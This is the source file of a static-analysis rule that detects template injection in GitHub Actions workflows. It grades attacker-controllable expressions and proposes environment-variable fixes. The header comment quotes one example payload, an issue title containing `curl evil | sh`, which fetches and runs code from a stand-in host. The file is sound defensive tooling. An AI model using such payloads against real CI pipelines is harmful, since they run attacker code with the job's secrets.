/**
 * template-injection: a `${{ }}` expression expanded inside code: a `run:` script (workflow or
 * composite action step), or an action input that the action executes (`actions/github-script`'s
 * `script:`, `azure/cli`'s `inlineScript:`…). GitHub substitutes the value into the script text
 * before the shell sees it, so an issue title like `"; curl evil | sh; "` becomes code that runs
 * with the job's token and secrets. Graded as zizmor grades it: fully attacker-controlled contexts
 * are errors, partly controlled ones warnings, inputs/env/matrix by what can reach them.
 */
import { WalkCache } from '../../../engine/lint-cache';
import type { Persona } from '../../../engine/config';
import type { Confidence, Fix, RelatedLocation, Severity, TextEdit } from '../../../engine/types';
import type { Expr } from '../../expr/ast';
import { expressionsIn, parseSpan, type ExprSpan } from '../../expr/extract';
import type { StepModel, WorkflowModel } from '../../model';
import { defineWorkflowRule, type WorkflowRuleContext } from '../../rule';
import { deref, mapOf, pairOf, scalarOf, type YScalar } from '../../yaml/node';
import { contextCapability, isDefaultEnvContext, isStaticDefaultEnv, type Capability } from './lib/contexts';
import { dataflowAccesses, matchesPattern, type FlowAccess } from './lib/expr-flow';
import { matrixOf, matrixPathIsStatic } from './lib/matrix';
import { envChain, stepShell, usesOf } from './lib/steps';
import { patternOf, usesPatternMatches, type UsesPattern } from './lib/uses-pattern';
import { setInChildMap } from './lib/yaml-edit';

/**
 * Action inputs that are code (GitHub's CodeQL sink models, plus the ones zizmor adds): the same
 * expansion hazard as `run:`, in JavaScript, PowerShell, Python, jq or a remote shell.
 */
const ACTION_SINKS: ReadonlyArray<{ readonly pattern: UsesPattern; readonly inputs: readonly string[] }> = (
  [
    ['devorbitus/yq-action-output', ['cmd']],
    ['docker/build-push-action', ['context']],
    ['appleboy/ssh-action', ['script']],
    ['sergeysova/jq-action', ['cmd']],
    ['azure/powershell', ['inlineScript']],
    ['roots/issue-closer-action', ['issue-close-message', 'pr-close-message']],
    ['skitionek/notify-microsoft-teams', ['overwrite']],
    ['mikefarah/yq', ['cmd']],
    ['lucasbento/auto-close-issues', ['issue-close-message']],
    ['imjohnbo/issue-bot', ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text']],
    ['8398a7/action-slack', ['custom_payload']],
    ['azure/cli', ['inlineScript']],
    ['actions/github-script', ['script']],
    ['gautamkrishnar/blog-post-workflow', ['item_exec']],
    ['tibdex/backport', ['body_template', 'head_template', 'labels_template', 'title_template']],
    ['amadevus/pwsh-script', ['script']],
    ['jannekem/run-python-script-action', ['script']],
    ['cardinalby/js-eval-action', ['expression']],
    ['addnab/docker-run-action', ['options', 'run']],
  ] as const
).map(([uses, inputs]) => ({ pattern: patternOf(uses), inputs }));

interface Grade {
  readonly severity: Severity;
  readonly confidence: Confidence;
  readonly persona: Persona;
}

const grade = (severity: Severity, confidence: Confidence, persona: Persona = 'regular'): Grade => ({ severity, confidence, persona });

// zizmor's severities, mapped onto ours: high → error, medium → warning, low/informational → info.
const ARBITRARY = grade('error', 'high');
const STRUCTURED = grade('warning', 'high');
const FIXED_INPUT = grade('info', 'high', 'pedantic');
const UNTYPED_INPUT = grade('info', 'low');
const DYNAMIC_ENV = grade('info', 'high');
const STATIC_ENV = grade('info', 'high', 'pedantic');
const DYNAMIC_MATRIX = grade('warning', 'medium');
const OTHER = grade('info', 'low');

/** Input types by name (lower-case), per file: `workflow_call`/`workflow_dispatch` or action.yml `inputs:`. */
const inputCache = new WalkCache<WorkflowModel, ReadonlyMap<string, Capability>>();

const RANK: Readonly<Record<Capability, number>> = { fixed: 0, structured: 1, arbitrary: 2 };

function inputCapabilities(model: WorkflowModel): ReadonlyMap<string, Capability> {
  const cached = inputCache.get(model);
  if (cached) return cached;
  const map = new Map<string, Capability>();
  const add = (name: string, cap: Capability) => {
    const key = name.toLowerCase();
    const old = map.get(key);
    map.set(key, old && RANK[old] > RANK[cap] ? old : cap);
  };
  if (model.kind === 'action') {
    // Action inputs are strings the caller chooses.
    for (const p of model.action?.inputs?.pairs ?? []) add(p.key.value, 'arbitrary');
  } else {
    for (const event of model.events) {
      if (event.name !== 'workflow_call' && event.name !== 'workflow_dispatch') continue;
      for (const p of mapOf(event.config, 'inputs')?.pairs ?? []) {
        const type = scalarOf(p.value, 'type')?.value ?? 'string';
        // Booleans, numbers, choices and environments cannot carry shell syntax.
        const fixed =
          type === 'boolean' || type === 'number' || (event.name === 'workflow_dispatch' && (type === 'choice' || type === 'environment'));
        add(p.key.value, fixed ? 'fixed' : 'arbitrary');
      }
    }
  }
  inputCache.set(model, map);
  return map;
}

/** Whether `env.<name>` is a literal the workflow wrote (or one the runner sets). */
function envIsStatic(step: StepModel, model: WorkflowModel, name: string): boolean {
  if (isStaticDefaultEnv(name)) return true;
  for (const env of envChain(step, model)) {
    if (env === 'expr') return false;
    const pair = env.pairs.find((p) => p.key.value.toLowerCase() === name);
    if (!pair) continue;
    const value = deref(pair.value);
    return value?.kind === 'scalar' ? !value.value.includes('${{') : value === undefined;
  }
  // Not set in the file: it may come from $GITHUB_ENV, which an earlier step controls.
  return false;
}

/** The grade of one access that flows into code, or undefined when it cannot carry code. */
function gradeOf(access: FlowAccess, step: StepModel, ctx: WorkflowRuleContext): Grade | undefined {
  const pattern = access.pattern;
  if (!pattern) return OTHER;
  const capability = contextCapability(pattern);
  if (capability === 'fixed') return undefined;
  if (capability === 'structured') return STRUCTURED;
  if (capability === 'arbitrary') return ARBITRARY;
  switch (access.root) {
    case 'secrets':
      // Secrets are another rule's business; they are not attacker-controlled.
      return undefined;
    case 'inputs': {
      const cap = pattern.length === 2 ? inputCapabilities(ctx.model).get(pattern[1] ?? '') : undefined;
      if (cap === 'fixed') return FIXED_INPUT;
      if (cap === 'structured') return STRUCTURED;
      return cap === 'arbitrary' ? ARBITRARY : UNTYPED_INPUT;
    }
    case 'env':
      return pattern.length === 2 && envIsStatic(step, ctx.model, pattern[1] ?? '') ? STATIC_ENV : DYNAMIC_ENV;
    case 'github':
      return ARBITRARY;
    case 'matrix': {
      const info = matrixOf(step.job);
      if (!info) return undefined;
      return matrixPathIsStatic(info, pattern.join('.')) ? undefined : DYNAMIC_MATRIX;
    }
    default:
      // `needs.*.result` and `steps.*.outcome|conclusion` are one of four fixed words.
      if (
        matchesPattern(pattern, ['needs', '*', 'result']) ||
        matchesPattern(pattern, ['steps', '*', 'outcome']) ||
        matchesPattern(pattern, ['steps', '*', 'conclusion'])
      )
        return undefined;
      return OTHER;
  }
}

const ORDINALS = ['FIRST', 'SECOND', 'THIRD'];

/**
 * The environment variable a fix moves an access into, as zizmor names it: `github.event.issue.title`
 * → `GITHUB_EVENT_ISSUE_TITLE`, `x.y[0]` → `X_FIRST_Y`, `x.y.*` → `X_ANY_Y`, `env.Foo` → `Foo`.
 * Undefined for calls, computed indexes and names that are not valid variable names.
 */
export function envVarName(expr: Expr): string | undefined {
  // The chain root-first: `github.event.issue.title` → context, property, property, property.
  const chain: Expr[] = [];
  let node: Expr = expr;
  while (node.type === 'property' || node.type === 'index' || node.type === 'star') {
    chain.unshift(node);
    node = node.object;
  }
  if (node.type !== 'context') return undefined;
  const isEnv = node.name.toLowerCase() === 'env';
  const parts: string[] = isEnv ? [] : [node.name];
  // Ordinals and ANY qualify the part before them: `x.y[0]` is "the first y of x".
  const qualify = (word: string) => parts.splice(Math.max(0, parts.length - 1), 0, word);
  for (const link of chain) {
    if (link.type === 'property') parts.push(link.name.replace(/-/g, '_'));
    else if (link.type === 'star') qualify('ANY');
    else if (link.type === 'index') {
      const index = link.index;
      if (index.type === 'literal' && typeof index.value === 'string') parts.push(index.value.replace(/-/g, '_'));
      else if (index.type === 'literal' && typeof index.value === 'number') qualify(ORDINALS[index.value] ?? `${index.value + 1}TH`);
      else return undefined;
    }
  }
  const name = parts.join('_');
  const result = isEnv ? name : name.toUpperCase();
  return /^[A-Za-z_][A-Za-z0-9_]*$/.test(result) ? result : undefined;
}

/**
 * Tracks the shell quoting state of a `run:` script while expressions are visited in order, so
 * "is this expression inside single quotes" (where `$VAR` would not expand) costs one pass per script.
 */
class QuoteTracker {
  private pos: number;
  private single = false;
  private double = false;
  constructor(
    private readonly text: string,
    from: number,
    private readonly escape: string,
  ) {
    this.pos = from;
  }
  singleQuotedAt(offset: number): boolean {
    for (; this.pos < offset; this.pos++) {
      const c = this.text[this.pos];
      if (this.single) {
        if (c === "'") this.single = false;
      } else if (c === this.escape) this.pos++;
      else if (c === '"') this.double = !this.double;
      else if (c === "'" && !this.double) this.single = true;
    }
    return this.single;
  }
}

/** What a fix needs to know about the step, worked out once per script and only when a fix is tried. */
interface FixSetup {
  readonly reference: (name: string) => string;
  readonly quotes: QuoteTracker | undefined;
}

function fixSetup(step: StepModel, run: YScalar, ctx: WorkflowRuleContext): FixSetup | undefined {
  if (run.style !== 'literal' && run.style !== 'folded' && run.style !== 'plain') return undefined;
  const shell = stepShell(step, ctx.model);
  if (shell === 'bash' || shell === 'sh' || shell === 'zsh')
    return { reference: (name) => `\${${name}}`, quotes: new QuoteTracker(ctx.text, run.valueStart, '\\') };
  if (shell === 'pwsh' || shell === 'powershell')
    return { reference: (name) => `$env:${name}`, quotes: new QuoteTracker(ctx.text, run.valueStart, '`') };
  if (shell === 'cmd') return { reference: (name) => `%${name}%`, quotes: undefined };
  return undefined;
}

/**
 * zizmor's fix: replace the expression by a variable reference in the shell's syntax, and pass
 * the value in through the step's `env:`. Offered only where that is mechanical: a lone context
 * access, a known shell, a block or plain `run:` scalar, not inside single quotes.
 */
function envFix(
  step: StepModel,
  setup: FixSetup,
  span: ExprSpan,
  expr: Expr,
  access: FlowAccess,
  ctx: WorkflowRuleContext,
): Fix | undefined {
  if (access.node !== expr || access.root === '' || !access.pattern) return undefined;
  const name = envVarName(expr);
  if (!name || setup.quotes?.singleQuotedAt(span.start)) return undefined;
  const edits: TextEdit[] = [{ range: ctx.rangeOf(span.start, span.end), newText: setup.reference(name) }];
  const source = ctx.text.slice(expr.start, expr.end);
  if (access.root !== 'env' && !isDefaultEnvContext(access.pattern)) {
    if (/: | #|[\n\r]/.test(source)) return undefined;
    const value = `\${{ ${source} }}`;
    const existing = step.env ? deref(pairOf(step.env, name)?.value) : undefined;
    if (existing) {
      // Reuse a variable that already holds this value; never overwrite one that holds another.
      if (existing.kind !== 'scalar' || existing.value.replace(/\s+/g, '') !== value.replace(/\s+/g, '')) return undefined;
    } else {
      const edit = setInChildMap(ctx, step.node, 'env', name, value);
      if (!edit) return undefined;
      edits.push(edit);
    }
  }
  return { title: `Pass ${source} through the environment variable ${name}`, applicability: 'unsafe', edits };
}

function scan(step: StepModel, script: YScalar, sink: { action: string; input: string } | undefined, ctx: WorkflowRuleContext): void {
  // Built on the first finding only: most scripts have none.
  let related: RelatedLocation[] | undefined;
  const relatedOf = (): RelatedLocation[] => {
    if (related) return related;
    related = [];
    if (sink && step.uses)
      related.push({ message: `${sink.action} runs its "${sink.input}" input as code`, range: ctx.nodeRange(step.uses) });
    // The `run:` key, where a `# zizmor: ignore[…]` comment can sit (a comment inside the block is script).
    const runKey = sink ? undefined : pairOf(step.node, 'run')?.key;
    if (runKey) related.push({ message: 'this run: block', range: ctx.nodeRange(runKey) });
    return related;
  };
  const where = sink ? `the "${sink.input}" input of ${sink.action}, which runs it as code` : 'this run: script';
  let setup: FixSetup | undefined | null = sink ? undefined : null;
  for (const span of expressionsIn(ctx.text, script)) {
    if (!span.terminated) continue;
    const parsed = parseSpan(span);
    if (!parsed.ok) continue;
    let flagged = false;
    for (const access of dataflowAccesses(parsed.expr)) {
      const g = gradeOf(access, step, ctx);
      if (!g) continue;
      flagged = true;
      if (!ctx.shows(g.persona)) continue;
      const source = ctx.text.slice(access.node.start, access.node.end);
      if (setup === null) setup = fixSetup(step, script, ctx);
      const fix = setup ? envFix(step, setup, span, parsed.expr, access, ctx) : undefined;
      ctx.report({
        range: ctx.rangeOf(access.node.start, access.node.end),
        message: `${source} may expand into attacker-controllable code in ${where}: pass it through an environment variable instead.`,
        severity: g.severity,
        confidence: g.confidence,
        related: relatedOf(),
        ...(fix ? { fixes: [fix] } : {}),
      });
    }
    // zizmor's pedantic stance: any expression expanded into code is a smell, even a safe one.
    if (!flagged && ctx.shows('pedantic'))
      ctx.report({
        range: ctx.rangeOf(parsed.expr.start, parsed.expr.end),
        message: `This expression is expanded into code in ${where}; pass its value through an environment variable even when it looks safe.`,
        severity: 'info',
        confidence: 'high',
        related: relatedOf(),
      });
  }
}

export const templateInjection = defineWorkflowRule({
  id: 'template-injection',
  name: 'template-injection',
  aliases: [],
  severity: 'error',
  confidence: 'high',
  summary: 'A ${{ }} expression is expanded into a run: script or an action input that runs as code.',
  fix: 'unsafe',
  onStep(step, ctx) {
    if (step.run) {
      scan(step, step.run, undefined, ctx);
      return;
    }
    const uses = usesOf(step.uses);
    if (uses?.kind !== 'repository' || !step.with) return;
    const sink = ACTION_SINKS.find((s) => usesPatternMatches(s.pattern, uses.owner, uses.repo, uses.path));
    if (!sink) return;
    for (const input of sink.inputs) {
      const value = scalarOf(step.with, input);
      if (value && value.typed !== null) scan(step, value, { action: uses.slug, input }, ctx);
    }
  },
});
